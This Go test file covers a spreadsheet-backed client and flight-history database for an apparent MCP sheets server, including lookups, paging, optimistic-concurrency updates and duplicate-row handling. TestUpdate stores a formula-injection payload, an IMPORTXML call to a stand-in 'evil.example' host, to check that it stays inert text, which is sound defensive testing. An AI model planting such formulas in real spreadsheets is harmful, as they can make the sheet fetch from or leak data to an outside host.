package clientdb_test

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/mcp-fleet/mcp-fleet/servers/sheets/internal/clientdb"
	"github.com/mcp-fleet/mcp-fleet/shared/mcperr"
)

// The behavioural suite: every test runs on the Google workbook (the real
// client against the fake API, seeded as a person would type the sample)
// and on the local workbook (seeded from the sample files).

func TestGetTypedRecord(t *testing.T) {
	inEveryWorkbook(t, func(t *testing.T, e *env) {
		c := must(e.db.Get(ctx, "john.doe@example.com", "email"))
		if c.ClientID != "CL-001" || c.Name != "John Doe" || c.Phone != "+1-555-0101" || c.Company != "Tech Corp" || c.VIPStatus != "gold" {
			t.Errorf("record %+v", c)
		}
		if c.Preferences != (clientdb.Preferences{AircraftCategory: "midsize", Catering: "kosher", SpecialNeeds: "wheelchair accessible"}) {
			t.Errorf("preferences %+v", c.Preferences)
		}
		if c.History.TotalFlights != 12 || c.History.LastFlightDate == nil || *c.History.LastFlightDate != "2025-09-15" ||
			!slices.Equal(c.History.PreferredOperators, []string{"OP-001", "OP-003"}) {
			t.Errorf("history %+v", c.History)
		}
		if c.CreatedAt == nil || *c.CreatedAt != "2023-02-14T09:30:00Z" || c.UpdatedAt == nil || len(c.Problems) != 0 {
			t.Errorf("times %v %v, problems %v", c.CreatedAt, c.UpdatedAt, c.Problems)
		}
		for _, q := range [][2]string{{"CL-001", "client_id"}, {"cl-001", "client_id"}, {"CL-001", ""}, {"JOHN.DOE@example.com", ""}} {
			if got := must(e.db.Get(ctx, q[0], q[1])); got.ClientID != "CL-001" {
				t.Errorf("Get(%q, %q) = %s", q[0], q[1], got.ClientID)
			}
		}
		empty := must(e.db.Get(ctx, "CL-012", "client_id"))
		if empty.History.LastFlightDate != nil || empty.History.TotalFlights != 0 || len(empty.History.PreferredOperators) != 0 || empty.VIPStatus != "standard" {
			t.Errorf("CL-012 %+v", empty.History)
		}
		for _, q := range [][2]string{{"nobody@example.com", "email"}, {"CL-999", "client_id"}, {"CL-001", "email"}} {
			_, err := e.db.Get(ctx, q[0], q[1])
			if me := mcpErr(err); me == nil || me.Code != mcperr.NotFound || me.Field != "identifier" {
				t.Errorf("Get(%q, %q): %v", q[0], q[1], err)
			}
		}
		_, err := e.db.Get(ctx, "CL-001", "email")
		if !strings.Contains(err.Error(), "search_field to client_id") {
			t.Errorf("hint: %v", err)
		}
	})
}

func TestProblemsAndDates(t *testing.T) {
	inEveryWorkbook(t, func(t *testing.T, e *env) {
		// A person typed over some cells (row 3 is CL-002).
		e.setCell("Clients", 3, 10, "many")
		e.setCell("Clients", 3, 11, "next week")
		e.setCell("Clients", 3, 14, "yesterday")
		e.setCell("Clients", 4, 11, "2025/07/22")
		c := must(e.db.Get(ctx, "CL-002", "client_id"))
		if len(c.Problems) != 3 || c.Problems[0].Column != "total_flights" || c.Problems[0].Value != "many" || c.UpdatedAt != nil {
			t.Errorf("problems %+v", c.Problems)
		}
		if d := must(e.db.Get(ctx, "CL-003", "client_id")).History.LastFlightDate; d == nil || *d != "2025-07-22" {
			t.Errorf("a slashed date: %v", d)
		}
		// A flight for a client whose total is not a number is refused
		// before anything is written.
		_, err := e.db.AddFlight(ctx, "CL-002", clientdb.FlightInput{Date: "2025-11-01", Route: "KJFK-KLAX"})
		if code(err) != mcperr.Conflict || !strings.Contains(err.Error(), "many") {
			t.Errorf("AddFlight on a bad total: %v", err)
		}
	})
}

func TestListAndSearch(t *testing.T) {
	inEveryWorkbook(t, func(t *testing.T, e *env) {
		e.sortBy(2, true) // by name, descending: the list does not care
		p := must(e.db.List(ctx, "", 5))
		if p.Total != 12 || len(p.Clients) != 5 || p.Clients[0].ClientID != "CL-001" || p.Clients[4].ClientID != "CL-005" || p.NextCursor != "CL-005" {
			t.Errorf("page 1: %+v", p)
		}
		p = must(e.db.List(ctx, p.NextCursor, 5))
		if p.Clients[0].ClientID != "CL-006" || p.NextCursor != "CL-010" {
			t.Errorf("page 2: %+v", p)
		}
		p = must(e.db.List(ctx, p.NextCursor, 5))
		if len(p.Clients) != 2 || p.NextCursor != "" || p.Clients[1].ClientID != "CL-012" {
			t.Errorf("page 3: %+v", p)
		}
		if p := must(e.db.List(ctx, "CL-999", 5)); len(p.Clients) != 0 || p.NextCursor != "" {
			t.Errorf("past the end: %+v", p)
		}

		f := must(e.db.Search(ctx, clientdb.Query{Text: "hartford", Limit: 10}))
		if f.Matches != 1 || f.Clients[0].ClientID != "CL-002" || f.Clients[0].TotalFlights != 31 {
			t.Errorf("hartford: %+v", f)
		}
		ten := 10
		f = must(e.db.Search(ctx, clientdb.Query{VIPStatus: "GOLD", MinFlights: &ten, Limit: 10}))
		var ids []string
		for _, c := range f.Clients {
			ids = append(ids, c.ClientID)
		}
		if !slices.Equal(ids, []string{"CL-001", "CL-008", "CL-011"}) {
			t.Errorf("gold with 10+ flights: %v", ids)
		}
		f = must(e.db.Search(ctx, clientdb.Query{Text: "example.com", AircraftPreference: "light", Limit: 2}))
		if f.Matches != 3 || len(f.Clients) != 2 || !f.Truncated {
			t.Errorf("light, limit 2: %+v", f)
		}
		// Exact e-mail first, then names starting with the text.
		f = must(e.db.Search(ctx, clientdb.Query{Text: "marcus.bell@example.com", Limit: 5}))
		if f.Clients[0].ClientID != "CL-011" {
			t.Errorf("exact email: %+v", f)
		}
		f = must(e.db.Search(ctx, clientdb.Query{Text: "o", Limit: 20}))
		if f.Clients[0].Name != "Oliver Brandt" {
			t.Errorf("name prefix first: %+v", f.Clients[0])
		}
		if f := must(e.db.Search(ctx, clientdb.Query{Text: "tech doe", Limit: 5})); f.Matches != 1 {
			t.Errorf("two words: %+v", f)
		}
	})
}

func TestUpdate(t *testing.T) {
	inEveryWorkbook(t, func(t *testing.T, e *env) {
		before := byID(t, e.db)
		read := before["CL-004"]
		res := must(e.db.Update(ctx, "CL-004", clientdb.Fields{
			Phone: str("+44 20 7946 0958"), VIPStatus: str("Gold"), SpecialNeeds: str("=IMPORTXML(\"http://evil.example\",\"//x\")"),
			PreferredOperators: &[]string{"OP-002", " OP-007 "},
		}, *read.UpdatedAt))
		c := res.Client
		if c.Phone != "+44 20 7946 0958" || c.VIPStatus != "gold" || c.Preferences.SpecialNeeds != "=IMPORTXML(\"http://evil.example\",\"//x\")" ||
			!slices.Equal(c.History.PreferredOperators, []string{"OP-002", "OP-007"}) {
			t.Errorf("updated %+v", c)
		}
		if !slices.Equal(res.Changed, []string{"phone", "preferred_operators", "special_needs", "vip_status"}) {
			t.Errorf("changed %v", res.Changed)
		}
		if *c.UpdatedAt <= *read.UpdatedAt || c.Name != read.Name || c.History.TotalFlights != 4 || *c.History.LastFlightDate != *read.History.LastFlightDate {
			t.Errorf("updated_at %s (was %s), record %+v", *c.UpdatedAt, *read.UpdatedAt, c)
		}
		if got := e.changed.list(); !slices.Equal(got, []string{"CL-004"}) {
			t.Errorf("changes reported: %v", got)
		}
		// Nothing else moved.
		after := byID(t, e.db)
		for id, r := range before {
			if id != "CL-004" && !sameExceptStamp(r, after[id]) || id != "CL-004" && *r.UpdatedAt != *after[id].UpdatedAt {
				t.Errorf("client %s changed: %+v → %+v", id, r, after[id])
			}
		}
		// The read is stale now.
		_, err := e.db.Update(ctx, "CL-004", clientdb.Fields{Phone: str("+1-555-0000")}, *read.UpdatedAt)
		if me := mcpErr(err); me == nil || me.Code != mcperr.Conflict || me.Field != "expected_updated_at" || me.Value != *c.UpdatedAt {
			t.Errorf("stale expected_updated_at: %v", err)
		}
		// The same values again: nothing to write.
		again := must(e.db.Update(ctx, "CL-004", clientdb.Fields{Phone: str("+44 20 7946 0958")}, ""))
		if len(again.Changed) != 0 || *again.Client.UpdatedAt != *c.UpdatedAt {
			t.Errorf("no-op update: %+v", again)
		}
		for _, tc := range []struct {
			id    string
			f     clientdb.Fields
			exp   string
			code  mcperr.Code
			field string
		}{
			{"CL-999", clientdb.Fields{Phone: str("1")}, "", mcperr.NotFound, "client_id"},
			{"CL-004", clientdb.Fields{VIPStatus: str("diamond")}, "", mcperr.Validation, "updates.vip_status"},
			{"CL-004", clientdb.Fields{Email: str("not-an-address")}, "", mcperr.Validation, "updates.email"},
			{"CL-004", clientdb.Fields{Email: str("JOHN.DOE@example.com")}, "", mcperr.Conflict, "updates.email"},
			{"CL-004", clientdb.Fields{Name: str("  ")}, "", mcperr.Validation, "updates.name"},
			{"CL-004", clientdb.Fields{AircraftPreference: str("blimp")}, "", mcperr.Validation, "updates.aircraft_preference"},
			{"CL-004", clientdb.Fields{PreferredOperators: &[]string{"OP-1, OP-2"}}, "", mcperr.Validation, "updates.preferred_operators"},
			{"CL-004", clientdb.Fields{Company: str("a\x00b")}, "", mcperr.Validation, "updates.company"},
			{"CL-004", clientdb.Fields{Company: str(strings.Repeat("x", 1001))}, "", mcperr.Validation, "updates.company"},
			{"CL-004", clientdb.Fields{}, "", mcperr.Validation, "updates"},
			{"CL-004", clientdb.Fields{Phone: str("1")}, "last tuesday", mcperr.Validation, "expected_updated_at"},
		} {
			_, err := e.db.Update(ctx, tc.id, tc.f, tc.exp)
			if me := mcpErr(err); me == nil || me.Code != tc.code || me.Field != tc.field {
				t.Errorf("Update(%s, %+v): %v", tc.id, tc.f, err)
			}
		}
		// Empty a field.
		res = must(e.db.Update(ctx, "CL-004", clientdb.Fields{Company: str(""), AircraftPreference: str("")}, ""))
		if res.Client.Company != "" || res.Client.Preferences.AircraftCategory != "" {
			t.Errorf("emptied: %+v", res.Client)
		}
	})
}

func TestCreate(t *testing.T) {
	inEveryWorkbook(t, func(t *testing.T, e *env) {
		res := must(e.db.Create(ctx, clientdb.Fields{Name: str("Grace Hopper"), Email: str("grace@example.com"), Phone: str("=2+2"),
			AircraftPreference: str("Heavy")}))
		c := res.Client
		if c.ClientID != "CL-013" || c.Name != "Grace Hopper" || c.Phone != "=2+2" || c.VIPStatus != "standard" || c.History.TotalFlights != 0 ||
			c.Preferences.AircraftCategory != "heavy" || c.CreatedAt == nil || c.UpdatedAt == nil || *c.CreatedAt != *c.UpdatedAt {
			t.Errorf("created %+v", c)
		}
		if got := must(e.db.Get(ctx, "grace@example.com", "")); got.ClientID != "CL-013" {
			t.Errorf("get the new client: %+v", got)
		}
		_, err := e.db.Create(ctx, clientdb.Fields{Name: str("Grace again"), Email: str("GRACE@example.com")})
		if me := mcpErr(err); me == nil || me.Code != mcperr.Conflict || me.Value != "CL-013" {
			t.Errorf("same email: %v", err)
		}
		if _, err := e.db.Create(ctx, clientdb.Fields{Name: str("No mail")}); code(err) != mcperr.Validation {
			t.Errorf("no email: %v", err)
		}
		if _, err := e.db.Create(ctx, clientdb.Fields{Name: str("Bad"), Email: str("bad@example.com"), VIPStatus: str("x")}); code(err) != mcperr.Validation {
			t.Errorf("bad vip: %v", err)
		}
		if p := must(e.db.List(ctx, "CL-012", 10)); len(p.Clients) != 1 || p.Total != 13 {
			t.Errorf("list after create: %+v", p)
		}
		res = must(e.db.Create(ctx, clientdb.Fields{Name: str("Ada"), Email: str("ada@example.com"), VIPStatus: str("platinum")}))
		if res.Client.ClientID != "CL-014" || res.Client.VIPStatus != "platinum" {
			t.Errorf("second create %+v", res.Client)
		}
	})
}

func TestAddFlight(t *testing.T) {
	inEveryWorkbook(t, func(t *testing.T, e *env) {
		price := 61000.5
		in := clientdb.FlightInput{Date: "2025-10-20", Route: "KTEB-KASE", Aircraft: "Challenger 350", Operator: "OP-003", Price: &price}
		res := must(e.db.AddFlight(ctx, "CL-001", in))
		if res.AlreadyRecorded || !res.TotalsUpdated || res.Client.History.TotalFlights != 13 || *res.Client.History.LastFlightDate != "2025-10-20" {
			t.Errorf("first: %+v", res)
		}
		f := res.Flight
		if !strings.HasPrefix(f.FlightID, "FL-") || f.ClientFlightNumber != 13 || f.ClientID != "CL-001" || *f.Price != price || f.RecordedAt == "" {
			t.Errorf("flight %+v", f)
		}
		// The same call again (a retry) records nothing new.
		again := must(e.db.AddFlight(ctx, "cl-001", in))
		if !again.AlreadyRecorded || again.TotalsUpdated || again.Client.History.TotalFlights != 13 || again.Flight.FlightID != f.FlightID {
			t.Errorf("again: %+v", again)
		}
		// An older flight with its own id counts but leaves the last date.
		old := must(e.db.AddFlight(ctx, "CL-001", clientdb.FlightInput{FlightID: "TRIP-77", Date: "2024-01-05", Route: "KVNY-KSFO"}))
		if old.Client.History.TotalFlights != 14 || *old.Client.History.LastFlightDate != "2025-10-20" || old.Flight.ClientFlightNumber != 14 || old.Flight.Price != nil {
			t.Errorf("older flight: %+v", old)
		}
		// A flight id of another client is refused.
		_, err := e.db.AddFlight(ctx, "CL-002", clientdb.FlightInput{FlightID: "TRIP-77", Date: "2024-01-05", Route: "KVNY-KSFO"})
		if me := mcpErr(err); me == nil || me.Code != mcperr.Conflict || me.Field != "flight_details.flight_id" {
			t.Errorf("another client's flight id: %v", err)
		}
		// A client without flights gets its first.
		first := must(e.db.AddFlight(ctx, "CL-012", clientdb.FlightInput{Date: "2025-11-02", Route: "KJFK-TNCM"}))
		if first.Client.History.TotalFlights != 1 || first.Flight.ClientFlightNumber != 1 {
			t.Errorf("first flight: %+v", first)
		}
		for _, tc := range []struct {
			id    string
			in    clientdb.FlightInput
			code  mcperr.Code
			field string
		}{
			{"CL-404", clientdb.FlightInput{Date: "2025-01-01", Route: "A-B"}, mcperr.NotFound, "client_id"},
			{"CL-001", clientdb.FlightInput{Date: "2025-13-01", Route: "A-B"}, mcperr.Validation, "flight_details.date"},
			{"CL-001", clientdb.FlightInput{Date: "2025-01-01", Route: " "}, mcperr.Validation, "flight_details.route"},
			{"CL-001", clientdb.FlightInput{FlightID: "no spaces please", Date: "2025-01-01", Route: "A-B"}, mcperr.Validation, "flight_details.flight_id"},
			{"CL-001", clientdb.FlightInput{Date: "2025-01-01", Route: "A-B", Price: ptr(-1.0)}, mcperr.Validation, "flight_details.price"},
		} {
			_, err := e.db.AddFlight(ctx, tc.id, tc.in)
			if me := mcpErr(err); me == nil || me.Code != tc.code || me.Field != tc.field {
				t.Errorf("AddFlight(%s, %+v): %v", tc.id, tc.in, err)
			}
		}
		rows := must(e.db.ReadRange(ctx, clientdb.RangeRequest{Range: "Flight_History", HeaderRow: 1, Limit: 100}))
		n := 0
		for _, r := range rows.Rows {
			if r.Values["client_id"] == "CL-001" {
				n++
			}
		}
		if n != 4 || len(rows.Rows) != 11 {
			t.Errorf("history rows of CL-001: %d of %d", n, len(rows.Rows))
		}
	})
}

func ptr[T any](v T) *T { return &v }

// TestReorderBetweenCalls: a person sorts the sheet between the agent's read
// and its write; the write still changes the client it names, and nothing
// else.
func TestReorderBetweenCalls(t *testing.T) {
	inEveryWorkbook(t, func(t *testing.T, e *env) {
		before := byID(t, e.db)
		read := before["CL-007"]
		e.sortBy(2, false) // by name
		must(e.db.Update(ctx, "CL-007", clientdb.Fields{CateringPreference: str("no nuts")}, *read.UpdatedAt))
		e.shuffle(7)
		must(e.db.AddFlight(ctx, "CL-007", clientdb.FlightInput{Date: "2025-11-11", Route: "KDAL-KAUS"}))
		after := byID(t, e.db)
		for id, r := range before {
			if id == "CL-007" {
				continue
			}
			if !sameExceptStamp(r, after[id]) || *r.UpdatedAt != *after[id].UpdatedAt {
				t.Errorf("client %s changed", id)
			}
		}
		c := after["CL-007"]
		if c.Preferences.Catering != "no nuts" || c.History.TotalFlights != 7 || *c.History.LastFlightDate != "2025-11-11" || c.Name != "Thomas Whitaker" {
			t.Errorf("CL-007: %+v", c)
		}
	})
}

func TestSheetProblems(t *testing.T) {
	inEveryWorkbook(t, func(t *testing.T, e *env) {
		// A duplicate client id: reads warn, writes to it are refused.
		e.setCell("Clients", 13, 1, "CL-003")
		p := must(e.db.List(ctx, "", 100))
		if len(p.Warnings) != 1 || !strings.Contains(p.Warnings[0], "CL-003 appears on rows 4, 13") {
			t.Errorf("warnings %v", p.Warnings)
		}
		_, err := e.db.Update(ctx, "CL-003", clientdb.Fields{Phone: str("1")}, "")
		if code(err) != mcperr.Conflict || !strings.Contains(err.Error(), "rows 4, 13") {
			t.Errorf("update of a duplicate: %v", err)
		}
		if _, err := e.db.Get(ctx, "CL-003", "client_id"); code(err) != mcperr.Conflict {
			t.Errorf("get of a duplicate: %v", err)
		}
		// A missing column.
		e.setCell("Clients", 1, 10, "flights")
		_, err = e.db.Get(ctx, "CL-001", "client_id")
		if code(err) != mcperr.Upstream || !strings.Contains(err.Error(), "lacks the column(s) total_flights") {
			t.Errorf("missing column: %v", err)
		}
		e.setCell("Clients", 1, 10, "Name")
		_, err = e.db.List(ctx, "", 5)
		if !strings.Contains(err.Error(), "total_flights") {
			t.Errorf("missing and duplicate column: %v", err)
		}
		e.setCell("Clients", 1, 10, "Total Flights") // people's spelling is fine
		must(e.db.List(ctx, "", 5))
	})
}

func TestReadRange(t *testing.T) {
	inEveryWorkbook(t, func(t *testing.T, e *env) {
		r := must(e.db.ReadRange(ctx, clientdb.RangeRequest{Range: "Clients!A1:C5", HeaderRow: 1, Limit: 10}))
		if r.Tab != "Clients" || len(r.Rows) != 4 || r.Rows[0].Row != 2 || r.Rows[0].Values["name"] != "John Doe" || r.NextOffset != nil ||
			r.Columns[2] != (clientdb.Column{Letter: "C", Name: "email"}) || r.Range != "Clients!A2:C5" {
			t.Errorf("A1:C5: %+v", r)
		}
		r = must(e.db.ReadRange(ctx, clientdb.RangeRequest{Range: "clients!A2:J", HeaderRow: 1, Limit: 5, Offset: 5}))
		if len(r.Rows) != 5 || r.Rows[0].Values["client_id"] != "CL-006" || r.Rows[0].Values["total_flights"] != 24.0 || r.NextOffset == nil || *r.NextOffset != 10 {
			t.Errorf("page 2: %+v", r)
		}
		r = must(e.db.ReadRange(ctx, clientdb.RangeRequest{Range: "Clients!A2:J", HeaderRow: 1, Limit: 5, Offset: 10}))
		if len(r.Rows) != 2 || r.NextOffset != nil {
			t.Errorf("last page: %+v", r)
		}
		r = must(e.db.ReadRange(ctx, clientdb.RangeRequest{Range: "Clients!K2:K3", Limit: 5}))
		if r.Columns[0].Name != "K" || r.Rows[0].Values["K"] != "2025-09-15" {
			t.Errorf("no header, a date: %+v", r)
		}
		r = must(e.db.ReadRange(ctx, clientdb.RangeRequest{Range: "Flight_History", HeaderRow: 1, Limit: 3}))
		if len(r.Rows) != 3 || r.Rows[0].Values["price"] != 38500.0 || *r.NextOffset != 3 {
			t.Errorf("whole tab: %+v", r)
		}
		r = must(e.db.ReadRange(ctx, clientdb.RangeRequest{Range: "Clients!A900:B1000", HeaderRow: 1, Limit: 3}))
		if len(r.Rows) != 0 || r.NextOffset != nil {
			t.Errorf("empty part: %+v", r)
		}
		for _, tc := range []struct {
			req  clientdb.RangeRequest
			want string
		}{
			{clientdb.RangeRequest{Range: "Nope!A1:B2", Limit: 5}, "no tab \"Nope\" (tabs: Clients, Flight_History)"},
			{clientdb.RangeRequest{Range: "Clients!A1:B1001", Limit: 5}, "outside tab Clients, which has 1000 rows and 26 columns"},
			{clientdb.RangeRequest{Range: "Clients!AA1", Limit: 5}, "outside tab Clients"},
			{clientdb.RangeRequest{Range: "Clients!A1:", Limit: 5}, "not A1 notation"},
			{clientdb.RangeRequest{Range: "Clients", HeaderRow: 2000, Limit: 5}, "has 1000 rows"},
		} {
			_, err := e.db.ReadRange(ctx, tc.req)
			if me := mcpErr(err); me == nil || me.Code != mcperr.Validation || !strings.Contains(me.Message, tc.want) {
				t.Errorf("ReadRange(%+v): %v", tc.req, err)
			}
		}
	})
}

func TestInit(t *testing.T) {
	for name, mk := range envs() {
		t.Run(name, func(t *testing.T) {
			defer catch(t)
			e := mk(t, func(o *clientdb.Options) { o.ClientsTab, o.HistoryTab = "Kunden", "Flights" })
			s := must(e.db.Init(ctx))
			if !slices.Equal(s.AddedTabs, []string{"Kunden", "Flights"}) || !slices.Equal(s.HeadersWritten, []string{"Kunden", "Flights"}) || len(s.Ready) != 0 {
				t.Errorf("first init: %+v", s)
			}
			s = must(e.db.Init(ctx))
			if len(s.AddedTabs) != 0 || !slices.Equal(s.Ready, []string{"Kunden", "Flights"}) {
				t.Errorf("second init: %+v", s)
			}
			c := must(e.db.Create(ctx, clientdb.Fields{Name: str("First"), Email: str("first@example.com")}))
			if c.Client.ClientID != "CL-001" {
				t.Errorf("first client of a new sheet: %+v", c)
			}
			must(e.db.AddFlight(ctx, "CL-001", clientdb.FlightInput{Date: "2025-01-01", Route: "A-B"}))
			// The sample's tabs are there too; a tab with data but a bad
			// header is reported, not changed.
			e2 := mk(t, func(o *clientdb.Options) { o.ClientsTab = "Clients"; o.HistoryTab = "Clients2" })
			e2.setCell("Clients", 1, 3, "mail")
			_, err := e2.db.Init(ctx)
			if code(err) != mcperr.Upstream || !strings.Contains(err.Error(), "email") {
				t.Errorf("init over a bad header: %v", err)
			}
		})
	}
}

func TestStampsIncrease(t *testing.T) {
	defer catch(t)
	fixed := time.Date(2025, 1, 1, 0, 0, 0, 0, time.UTC)
	e := localEnv(t, func(o *clientdb.Options) { o.Now = func() time.Time { return fixed } })
	a := must(e.db.Update(ctx, "CL-001", clientdb.Fields{Phone: str("1")}, ""))
	b := must(e.db.Update(ctx, "CL-001", clientdb.Fields{Phone: str("2")}, ""))
	if *a.Client.UpdatedAt != "2025-01-01T00:00:00Z" || *b.Client.UpdatedAt != "2025-01-01T00:00:00.001Z" {
		t.Errorf("stamps %s %s", *a.Client.UpdatedAt, *b.Client.UpdatedAt)
	}
}

// TestReadRangeSparse: data far below the first rows is reached page by
// page, the empty stretch skipped a window at a time.
func TestReadRangeSparse(t *testing.T) {
	defer catch(t)
	e := localEnv(t)
	csv := "note,by\nfirst,ann\nsecond,bo\n" + strings.Repeat(",\n", 1496) + "far,cy\n"
	if err := os.WriteFile(filepath.Join(e.dir, "Notes.csv"), []byte(csv), 0o600); err != nil {
		t.Fatal(err)
	}
	r := must(e.db.ReadRange(ctx, clientdb.RangeRequest{Range: "Notes", HeaderRow: 1, Limit: 10}))
	if len(r.Rows) != 2 || r.NextOffset == nil || *r.NextOffset != 1010 {
		t.Fatalf("page 1: %+v", r)
	}
	r = must(e.db.ReadRange(ctx, clientdb.RangeRequest{Range: "Notes", HeaderRow: 1, Limit: 10, Offset: *r.NextOffset}))
	if len(r.Rows) != 1 || r.Rows[0].Row != 1500 || r.Rows[0].Values["by"] != "cy" || r.NextOffset != nil {
		t.Fatalf("page 2: %+v", r)
	}
}
